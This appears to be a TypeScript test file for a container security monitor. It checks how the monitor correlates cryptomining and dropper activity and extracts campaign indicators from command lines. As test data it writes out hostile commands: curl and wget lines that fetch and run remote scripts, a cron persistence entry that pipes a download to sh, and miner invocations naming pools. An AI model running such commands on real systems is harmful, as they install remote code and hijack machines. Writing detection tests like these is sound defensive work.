import { factContext, factsFromFile } from '@tidewaiter/facts';
import { observation, type ObservationSketch } from '@tidewaiter/testkit';

import type { EventInputs } from '../events/event-inputs.js';
import { FileWriters } from '../events/file-writers.js';
import { IssuedKeys } from '../events/issued-keys.js';
import { OwnObjects } from '../events/own-objects.js';
import { PodOrigins } from '../events/pod-origins.js';
import { ProcessTree } from '../events/process-tree.js';
import { campaignJoins, campaignKeys } from './campaign-joins.js';

const digest = `sha256:${'a'.repeat(64)}`;
const known = factsFromFile({
  images: { [digest]: { files: { '/usr/bin/curl': {} } } },
  policy: { package_mirrors: ['203.0.113.80'], cluster_dns: ['203.0.113.53'] },
});

const inputs = (sketch: ObservationSketch): EventInputs => ({
  observation: observation({ activity: 'connect', container: { id: 'c'.repeat(64) }, ...sketch }),
  process: null,
  tree: new ProcessTree(),
  writers: new FileWriters(),
  origins: new PodOrigins(),
  objects: new OwnObjects(),
  issuedKeys: new IssuedKeys(),
  facts: factContext(known),
});

const peer = (destinationIp: string) => ({ network: { destinationIp, destinationPort: 3333 } });
const inKnownImage = { container: { id: 'c'.repeat(64), imageDigest: digest } };

describe('campaignJoins', () => {
  it.each<[string, ObservationSketch, boolean]>([
    ['a dropped program', { ...inKnownImage, process: { executable: '/opt/x' }, ...peer('199.247.27.41') }, true],
    [
      'a program in memory of an unknown image',
      { process: { executable: '/dev/shm/.k' }, ...peer('199.247.27.41') },
      true,
    ],
    [
      'a program of the image',
      { ...inKnownImage, process: { executable: '/usr/bin/curl' }, ...peer('199.247.27.41') },
      false,
    ],
    ['a program of an unknown image', { process: { executable: '/app/server' }, ...peer('199.247.27.41') }, false],
    ['an internal address', { process: { executable: '/dev/shm/.k' }, ...peer('10.96.0.1') }, false],
    ['a metadata service', { process: { executable: '/dev/shm/.k' }, ...peer('169.254.169.254') }, false],
    ['a package mirror', { process: { executable: '/dev/shm/.k' }, ...peer('203.0.113.80') }, false],
    ['the DNS of the cluster', { process: { executable: '/dev/shm/.k' }, ...peer('203.0.113.53') }, false],
  ])('joins by the destination of %s: %#', (_what, sketch, joins) => {
    expect(campaignJoins(inputs(sketch)).includes('peer')).toBe(joins);
  });
});

describe('campaignKeys', () => {
  it.each<[string, string[]]>([
    ['/tmp/x -o stratum+tcp://gulf.example.stream:10128 -u w', ['pool:gulf.example.stream']],
    ['/tmp/x -o 199.247.27.41:3333 -u w', ['pool:199.247.27.41']],
    ['/tmp/x --url=pool.example.com:443', ['pool:pool.example.com']],
    ['/usr/bin/gcc -o main.o -c main.c', []],
    ['/bin/sh -c "curl -s http://203.0.113.9/x.sh | sh"', ['dropper:203.0.113.9', 'url:http://203.0.113.9/x.sh']],
    ['/usr/bin/wget http://203.0.113.9:8080/a -O /tmp/a', ['dropper:203.0.113.9', 'url:http://203.0.113.9:8080/a']],
    [
      '/bin/sh -c "echo \'* * * * * root curl http://cdn.example.org/p|sh\' > /h/cron.d/a"',
      ['url:http://cdn.example.org/p'],
    ],
    ['/usr/bin/curl https://example.org', []],
    ['/usr/bin/curl https://example.org/', []],
    ['/usr/bin/curl http://10.0.0.8/a', ['url:http://10.0.0.8/a']],
    ['/usr/bin/curl http://203.0.113.9.example.com/a', ['url:http://203.0.113.9.example.com/a']],
  ])('parses the campaign keys of %j', (commandLine, keys) => {
    expect(Object.values(campaignKeys(observation({ process: { commandLine } }))).flat()).toEqual(keys);
  });

  it('takes the address that a miner connects to as the pool that another event names', () => {
    expect(campaignKeys(observation(peer('199.247.27.41'))).peer).toEqual(['pool:199.247.27.41']);
  });

  it.each([
    ['/dev/shm/.kworkerds', ['program:eu1//dev/shm/.kworkerds']],
    ['/proc/self/fd/4', []],
    ['memfd:a', []],
  ])('joins a dropped program %s by its path within the cluster', (executable, keys) => {
    expect(campaignKeys(observation({ cluster: 'eu1', process: { executable } })).program).toEqual(keys);
  });
});
